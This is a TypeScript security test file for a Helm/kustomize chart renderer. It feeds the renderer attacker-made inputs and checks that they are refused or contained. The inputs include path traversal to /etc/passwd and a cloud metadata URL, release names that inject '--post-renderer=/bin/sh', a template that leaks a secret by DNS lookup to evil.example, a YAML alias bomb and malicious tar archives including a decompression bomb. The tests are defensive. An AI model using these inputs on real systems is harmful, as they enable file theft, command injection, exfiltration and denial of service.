/** Rows C1 to C10 and A15 of the catalogue: charts and values made by an attacker, with both majors of Helm. */

import { readdirSync, mkdirSync, rmSync } from "node:fs";
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { HelmOptions, Render, RenderFailure, RenderResult } from "../../src/core/model/render.ts";
import {
  createRenderer,
  type LocalRenderer,
  type RendererOptions,
} from "../../src/render/create-renderer.ts";
import { scratchFolder } from "../git/make-repository.ts";
import { findPart, lacks } from "../real/parts.ts";
import { fakeTool } from "../render/fake-tool.ts";
import { makeChart } from "../render/make-chart.ts";
import { configMap, makeTree, type TestFile } from "../render/make-tree.ts";
import { makeTar } from "./make-tar.ts";

type Files = Readonly<Record<string, TestFile>>;

const parts = ["helm", "helm3"] as const;
let scratch: string;
let workDir: string;
const open: LocalRenderer[] = [];

beforeEach(() => {
  scratch = scratchFolder();
  workDir = join(scratch, "work");
  mkdirSync(workDir);
});

afterEach(async () => {
  for (const renderer of open.splice(0)) await renderer.close();
  const left = readdirSync(workDir);
  rmSync(scratch, { recursive: true, force: true });
  if (left.length > 0) throw new Error(`left behind: ${left.join(", ")}`);
});

interface Attack {
  readonly files: Files;
  readonly helm?: Partial<HelmOptions>;
  readonly part?: (typeof parts)[number];
  readonly options?: Partial<RendererOptions>;
}

function result({ files, helm = {}, part = "helm", options }: Attack): Promise<RenderResult> {
  const renderer = createRenderer({
    tools: {
      kustomize: [{ name: "kustomize", path: findPart("kustomize")?.path ?? "" }],
      helm: [{ name: "helm", path: findPart(part)?.path ?? "" }],
    },
    searchPath: process.env["PATH"] ?? "",
    workDir,
    ...options,
  });
  open.push(renderer);
  const request = { tree: makeTree(files), path: "env", namespace: "shop" };
  return renderer.render({ ...request, helm: { releaseName: "release", valuesFiles: [], ...helm } });
}

async function failure(attack: Attack): Promise<RenderFailure> {
  const found = await result(attack);
  if (found.kind !== "failed") throw new Error(`expected a failure, found ${found.kind}`);
  return found.failure;
}

async function rendered(attack: Attack): Promise<Render> {
  const found = await result(attack);
  if (found.kind !== "rendered") throw new Error(JSON.stringify(found));
  return found.render;
}

/** A Helm that must not be run: it leaves a mark. */
function untouchable(): { readonly options: Partial<RendererOptions>; readonly ran: () => boolean } {
  const tool = { ...fakeTool(scratch, ""), name: "helm" as const };
  const marking = fakeTool(scratch, `touch ${join(scratch, "ran")}; exit 1`);
  return {
    options: { tools: { kustomize: [marking], helm: [{ ...tool, path: marking.path }] } },
    ran: () => readdirSync(scratch).includes("ran"),
  };
}

describe("C1: a values file that is not in the repository is refused before Helm runs, and never read", () => {
  test.each([
    "../../etc/passwd",
    "/etc/passwd",
    "env/../../../etc/passwd",
    "https://example.com/values.yaml",
    "http://169.254.169.254/latest/meta-data",
    "secrets://values.yaml",
    "file:///etc/passwd",
    "git::https://example.com/x",
  ])("%s", async (path) => {
    const { options, ran } = untouchable();
    const found = await failure({ files: makeChart("env"), helm: { valuesFiles: [path] }, options });
    expect(found.reason).toBe("RENDER_PATH_ESCAPE");
    expect(JSON.stringify(found)).not.toContain("root:");
    expect(ran()).toBe(false);
  });

  test.each(["/etc/passwd", "../../etc/passwd", "/proc/self/environ"])(
    "behind a link to %s",
    async (link) => {
      const { options, ran } = untouchable();
      const files = { ...makeChart("env"), "v.yaml": { link } };
      const found = await failure({ files, helm: { valuesFiles: ["v.yaml"] }, options });
      expect(found.reason).toBe("TREE_SYMLINK_ESCAPE");
      expect(ran()).toBe(false);
    },
  );

  test("and neither is one that a kustomization names", async () => {
    for (const file of ["https://example.com/v.yaml", "../../../etc/passwd", "/etc/passwd"]) {
      const { options, ran } = untouchable();
      for (const field of [`valuesFile: "${file}"`, `additionalValuesFiles: ["${file}"]`]) {
        const files = {
          "env/kustomization.yaml": `helmCharts:\n- {name: shop, releaseName: web, ${field}}\n`,
          ...makeChart("env/charts/shop"),
        };
        expect((await failure({ files, options })).reason).toMatch(
          /^RENDER_(?:PATH_ESCAPE|REMOTE_FORBIDDEN)$/,
        );
      }
      expect(ran()).toBe(false);
    }
  });
});

describe("C2: nothing of a repository becomes an option of Helm", () => {
  test.each(["--post-renderer=/bin/sh", "-f/etc/passwd", "--kubeconfig=x", "a b", "a\n--debug", ""])(
    "as the name of a release: %j",
    async (releaseName) => {
      const { options, ran } = untouchable();
      const found = await failure({ files: makeChart("env"), helm: { releaseName }, options });
      expect(found).toMatchObject({ reason: "RENDER_FAILED", message: expect.stringContaining("release") });
      expect(ran()).toBe(false);
    },
  );

  test("as the name of a release in a kustomization", async () => {
    const { options, ran } = untouchable();
    const files = {
      "env/kustomization.yaml": "helmCharts:\n- {name: shop, releaseName: --post-renderer=/bin/sh}\n",
      ...makeChart("env/charts/shop"),
    };
    expect(await failure({ files, options })).toMatchObject({ file: "env/kustomization.yaml", line: 2 });
    expect(ran()).toBe(false);
  });

  test.skipIf(lacks("helm"))("as the path of a chart or of a values file", async () => {
    const files = {
      ...Object.fromEntries(Object.entries(makeChart("--debug")).map(([path, text]) => [path, text])),
      "--set": "size: 7\n",
      "-": "size: 8\n",
    };
    const renderer = createRenderer({
      tools: { kustomize: [], helm: [{ name: "helm", path: findPart("helm")?.path ?? "" }] },
      searchPath: process.env["PATH"] ?? "",
      workDir,
    });
    open.push(renderer);
    const found = await renderer.render({
      tree: makeTree(files),
      path: "--debug",
      namespace: "",
      helm: { releaseName: "a", valuesFiles: ["--set", "-"] },
    });
    expect(found).toMatchObject({
      kind: "rendered",
      render: { manifests: [{ body: { data: { size: "8" } } }] },
    });
  });

  test.skipIf(lacks("kustomize", "helm"))("as a plugin: those of a repository are not run", async () => {
    const plugin =
      "name: x\nversion: 1.0.0\ncommand: touch /tree/ran\ndownloaders: [{command: x, protocols: [evil]}]\n";
    const files = {
      "env/kustomization.yaml":
        "helmCharts:\n- {name: shop, releaseName: web}\nhelmGlobals: {configHome: ./home}\n",
      "env/home/.data/plugins/x/plugin.yaml": plugin,
      "env/home/plugins/x/plugin.yaml": plugin,
      ...makeChart("env/charts/shop"),
    };
    expect((await rendered({ files })).manifests).toHaveLength(1);
  });
});

const hook = (name: string, events: string, more = ""): string =>
  `apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: ${name}\n  annotations: {"helm.sh/hook": "${events}"${more}}\n`;

describe.skipIf(lacks(...parts)).each(parts)("with %s", (part) => {
  test("C3: lookup finds nothing, and the capabilities are those that we fix", async () => {
    const template = configMap(
      "x",
      [
        'found: {{ lookup "v1" "Secret" "kube-system" "" | toJson | quote }}',
        "  version: {{ .Capabilities.KubeVersion.Version | quote }}",
        '  custom: {{ .Capabilities.APIVersions.Has "monitoring.coreos.com/v1" | quote }}',
      ].join("\n"),
    );
    const { manifests } = await rendered({
      files: makeChart("env", { "templates/web.yaml": template }),
      part,
    });
    expect(manifests[0]?.body["data"]).toEqual({ found: "{}", version: "v1.36.0", custom: "false" });
  });

  test("C3: an API server that a chart or the environment of Slipway names is not asked", async () => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? "");
      response.end("{}");
    });
    await new Promise<void>((resolve) => {
      server.listen(0, "127.0.0.1", resolve);
    });
    try {
      const template = configMap("x", 'a: {{ lookup "v1" "Pod" "a" "b" | toJson | quote }}');
      const files = makeChart("env", { "templates/web.yaml": template });
      expect((await rendered({ files, part })).manifests).toHaveLength(1);
      expect(asked).toEqual([]);
    } finally {
      server.close();
    }
  });

  test("C4: getHostByName gives nothing, and sends no packet", async () => {
    const heard: Buffer[] = [];
    const socket = createSocket("udp4", (message) => heard.push(message));
    await new Promise<void>((resolve) => {
      socket.bind(0, "127.0.0.1", resolve);
    });
    try {
      const template = configMap(
        "x",
        'a: {{ getHostByName (printf "%s.evil.example" .Values.size) | quote }}',
      );
      const { manifests } = await rendered({
        files: makeChart("env", { "templates/web.yaml": template, "values.yaml": "size: hunter2\n" }),
        part,
      });
      expect(manifests[0]?.body["data"]).toEqual({ a: "" });
      expect(heard).toEqual([]);
    } finally {
      socket.close();
    }
  });

  describe("C5: what Helm cannot use is told cleanly, without what is in it", () => {
    test.each<readonly [string, Files]>([
      [
        "a maintainer that is nothing",
        { "Chart.yaml": "apiVersion: v2\nname: shop\nversion: 0.1.0\nmaintainers: [null]\n" },
      ],
      [
        "a dependency that is nothing",
        { "Chart.yaml": "apiVersion: v2\nname: shop\nversion: 0.1.0\ndependencies: [null]\n" },
      ],
      ["metadata of the wrong type", { "Chart.yaml": "apiVersion: v2\nname: [hunter2]\nversion: {}\n" }],
      ["a list of values", { "values.yaml": "- hunter2\n" }],
      ["values that are text", { "values.yaml": "hunter2\n" }],
      ["a schema that is none", { "values.schema.json": '{"type": "hunter2"}' }],
      ["a schema that is no JSON", { "values.schema.json": "hunter2" }],
      ["a crd that is no object", { "crds/x.yaml": "hunter2\n" }],
      ["an index far outside of a list", { "templates/x.yaml": "a: {{ index (list 1) 99999999999 }}\n" }],
      ["a schema elsewhere", { "values.schema.json": '{"$ref": "https://example.com/hunter2.json"}' }],
      ["a schema of this machine", { "values.schema.json": '{"$ref": "file:///etc/passwd"}' }],
    ])("%s", async (_, more) => {
      const found = await failure({ files: makeChart("env", more), part });
      expect(found.message).not.toBe("");
      expect(found.next).not.toBe("");
      expect(JSON.stringify(found)).not.toMatch(/root:|goroutine|\/tmp|\/dev\/shm|slipway-render/);
    });

    test("a secret of the values is masked where a template prints it", async () => {
      const found = await failure({
        files: makeChart("env", {
          "values.yaml": "database: {password: hunter2hunter2}\n",
          "templates/x.yaml": 'a: {{ fail (printf "cannot use %s" .Values.database.password) }}\n',
        }),
        helm: { values: { token: "correct-horse-battery" } },
        part,
      });
      expect(found.message).toContain("The chart refuses these values: cannot use");
      expect(JSON.stringify(found)).not.toMatch(/hunter2|correct-horse/);
    });
  });

  test("C6: a lock file behind a link that leaves is refused; a missing dependency is never fetched", async () => {
    const linked = makeChart("env", { "Chart.lock": { link: "/etc/passwd" } });
    expect(await failure({ files: linked, part })).toMatchObject({
      reason: "TREE_SYMLINK_ESCAPE",
      file: "env/Chart.lock",
    });
    const dependency = "dependencies: [{name: db, version: 1.0.0, repository: 'http://127.0.0.1:1/'}]\n";
    const lacking = makeChart("env", {
      "Chart.yaml": `apiVersion: v2\nname: shop\nversion: 0.1.0\n${dependency}`,
      "Chart.lock": "dependencies: [{name: db, version: 1.0.0, repository: 'http://127.0.0.1:1/'}]\n",
    });
    expect(await failure({ files: lacking, part })).toMatchObject({ reason: "CHART_DEP_MISSING" });
  });

  describe("C7: a template that never ends or grows is stopped by name", () => {
    const limits = { wallMs: 5_000, memoryBytes: 512 * 1024 * 1024, outputBytes: 8 * 1024 * 1024 };

    test.each<readonly [string, string, RegExp]>([
      [
        "includes itself",
        '{{ define "x" }}{{ include "x" . }}{{ end }}{{ include "x" . }}',
        /^RENDER_FAILED$/,
      ],
      [
        "tpl of itself",
        '{{ define "x" }}{{ tpl "{{ include \\"x\\" . }}" . }}{{ end }}{{ include "x" . }}',
        /^RENDER_/,
      ],
      ["a very long text", 'a: {{ repeat 900000000 "x" }}', /^RENDER_LIMIT_(?:MEMORY|OUTPUT)$/],
      [
        "text that doubles",
        '{{ $x := "xxxxxxxxxxxxxxxx" }}{{ range until 40 }}{{ $x = printf "%s%s" $x $x }}{{ end }}a: {{ $x }}',
        /^RENDER_LIMIT_(?:MEMORY|OUTPUT|TIME)$/,
      ],
      ["a very wide text", 'a: {{ printf "%0999999d" 1 | repeat 2000 }}', /^RENDER_LIMIT_|^RENDER_FAILED$/],
      ["a long loop", "{{ range until 2000000000 }}{{ end }}", /^RENDER_LIMIT_(?:MEMORY|TIME)$/],
    ])("%s", async (_, template, reason) => {
      const started = performance.now();
      const found = await failure({
        files: makeChart("env", { "templates/web.yaml": template }),
        part,
        options: { limits },
      });
      expect(found.reason).toMatch(reason);
      expect(found.message).not.toContain("goroutine");
      expect(performance.now() - started).toBeLessThan(20_000);
    });

    test("an alias bomb among the values is refused before Helm runs", async () => {
      const { options, ran } = untouchable();
      const lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"];
      for (let n = 1; n < 10; n += 1)
        lines.push(
          `a${n}: &a${n} [${Array(9)
            .fill(`*a${n - 1}`)
            .join(",")}]`,
        );
      const files = { ...makeChart("env"), "v.yaml": `${lines.join("\n")}\n` };
      const found = await failure({ files, helm: { valuesFiles: ["v.yaml"] }, options });
      expect(found).toMatchObject({ reason: "YAML_ALIAS_LIMIT", file: "v.yaml" });
      expect(ran()).toBe(false);
    });
  });

  describe("C8: what differs from render to render is named, by object and field, without its values", () => {
    test.each<readonly [string, string]>([
      ["now", "now | quote"],
      ["a date of today", 'now | date "2006-01-02" | quote'],
      ["randAlphaNum", "randAlphaNum 20"],
      ["uuidv4", "uuidv4"],
      ["genPrivateKey", 'genPrivateKey "ecdsa" | b64enc'],
      ["genCA", '(genCA "x" 1).Cert | b64enc'],
      ["htpasswd", 'htpasswd "a" "b" | quote'],
      ["by a template within values", "tpl .Values.text . | quote"],
    ])("%s", async (_, expression) => {
      const template = configMap("unstable", `a: {{ ${expression} }}\n  b: same`);
      const values = 'size: 1\ntext: "{{ randAlphaNum 30 }}"\n';
      const { unstable } = await rendered({
        files: makeChart("env", { "templates/x.yaml": template, "values.yaml": values }),
        part,
      });
      expect(unstable).toEqual([
        {
          identity: { group: "", kind: "ConfigMap", namespace: "shop", name: "unstable" },
          fields: ["data.a"],
        },
      ]);
    });

    test("an object that only one of two renders has", async () => {
      const template = '{{ range list "a" "b" }}\n---\n'.concat(
        configMap("{{ . }}-{{ randAlpha 8 | lower }}"),
        "{{ end }}\n",
      );
      const { unstable = [] } = await rendered({
        files: makeChart("env", { "templates/x.yaml": template }),
        part,
      });
      expect(unstable).toHaveLength(4);
      expect(unstable[0]?.fields).toEqual([]);
    });

    test("what uses such functions and is the same all the same is not named", async () => {
      const template = configMap("x", 'a: {{ "2020-01-01" | toDate "2006-01-02" | date "2006" | quote }}');
      const { unstable } = await rendered({
        files: makeChart("env", { "templates/x.yaml": template }),
        part,
      });
      expect(unstable).toBeUndefined();
    });
  });

  test("C9: hooks are listed apart with when they would run, tests and notes nowhere", async () => {
    const files = makeChart("env", {
      "templates/a.yaml": hook("migrate", "pre-install, pre-upgrade", ', "helm.sh/hook-weight": "-5"'),
      "templates/b.yaml": hook("seed", "post-install", ', "helm.sh/hook-delete-policy": "hook-succeeded"'),
      "templates/tests/c.yaml": hook("check", "test"),
      "templates/NOTES.txt": "<img src=https://evil.example> {{ .Values.size }}",
    });
    const { manifests, hooks } = await rendered({ files, part });
    expect(manifests.map(({ identity }) => identity.name)).toEqual(["release"]);
    const digest: unknown = expect.stringMatching(/^sha256:[0-9a-f]{64}$/u);
    expect(hooks).toEqual([
      {
        identity: { group: "batch", kind: "Job", namespace: "shop", name: "migrate" },
        events: ["pre-install", "pre-upgrade"],
        weight: -5,
        deletePolicies: [],
        digest,
      },
      {
        identity: { group: "batch", kind: "Job", namespace: "shop", name: "seed" },
        events: ["post-install"],
        weight: 0,
        deletePolicies: ["hook-succeeded"],
        digest,
      },
    ]);
  });

  describe("C10: names and versions with paths or control characters are refused, or shown harmlessly", () => {
    test.each([
      'name: "../../x"\nversion: 0.1.0',
      'name: shop\nversion: "../1"',
      'name: "a/b"\nversion: 0.1.0',
    ])("%j is refused", async (metadata) => {
      const files = makeChart("env", { "Chart.yaml": `apiVersion: v2\n${metadata}\n` });
      expect(await failure({ files, part })).toMatchObject({
        reason: "RENDER_FAILED",
        file: "env/Chart.yaml",
      });
    });

    test("in messages they are one harmless line", async () => {
      const files = makeChart("env", {
        "Chart.yaml":
          'apiVersion: v2\nname: "b\\e[31mad\\n::error::x"\nversion: 0.1.0\ndependencies: [{name: "d\\e[2K\\nb", version: 1.x}]\n',
      });
      const found = await failure({ files, part });
      expect(found.message).toMatch(/^[^\p{C}]+$/u);
    });
  });

  describe("A15: a packed chart that is no honest one is rejected by name", () => {
    const dependency =
      "apiVersion: v2\nname: shop\nversion: 0.1.0\ndependencies: [{name: db, version: 1.0.0}]\n";
    const packed = (archive: Buffer): Files =>
      makeChart("env", { "Chart.yaml": dependency, "charts/db-1.0.0.tgz": archive });
    const chartYaml = { path: "db/Chart.yaml", text: "apiVersion: v2\nname: db\nversion: 1.0.0\n" };

    test("an honest one is rendered, and told where it fails", async () => {
      const template = { path: "db/templates/x.yaml", text: configMap("packed") };
      const good = gzipSync(makeTar([chartYaml, template]));
      const { manifests } = await rendered({ files: packed(good), part });
      expect(manifests.map(({ identity }) => identity.name)).toContain("packed");
    });

    test.each<readonly [string, () => Buffer]>([
      ["no archive", () => Buffer.from("not an archive")],
      ["cut off", () => gzipSync(makeTar([chartYaml])).subarray(0, 60)],
      ["an absolute path", () => gzipSync(makeTar([chartYaml, { path: "/etc/x", text: "x" }]))],
      ["a path that leaves", () => gzipSync(makeTar([chartYaml, { path: "db/../../x", text: "x" }]))],
      ["a link", () => gzipSync(makeTar([chartYaml, { path: "db/templates/x.yaml", link: "/etc/passwd" }]))],
      ["a hard link", () => gzipSync(makeTar([chartYaml, { path: "db/x", link: "/etc/passwd", type: "1" }]))],
      ["a device", () => gzipSync(makeTar([chartYaml, { path: "db/x", link: "", type: "3" }]))],
      [
        "one that grows a thousandfold",
        () => gzipSync(makeTar([chartYaml, { path: "db/x", text: "\0".repeat(80 * 1024 * 1024) }])),
      ],
    ])("%s", async (_, archive) => {
      const found = await failure({ files: packed(archive()), part });
      expect(found).toMatchObject({ reason: "CHART_ARCHIVE_REJECTED", file: "env/charts/db-1.0.0.tgz" });
      expect(JSON.stringify(found)).not.toContain("root:");
    });
  });
});
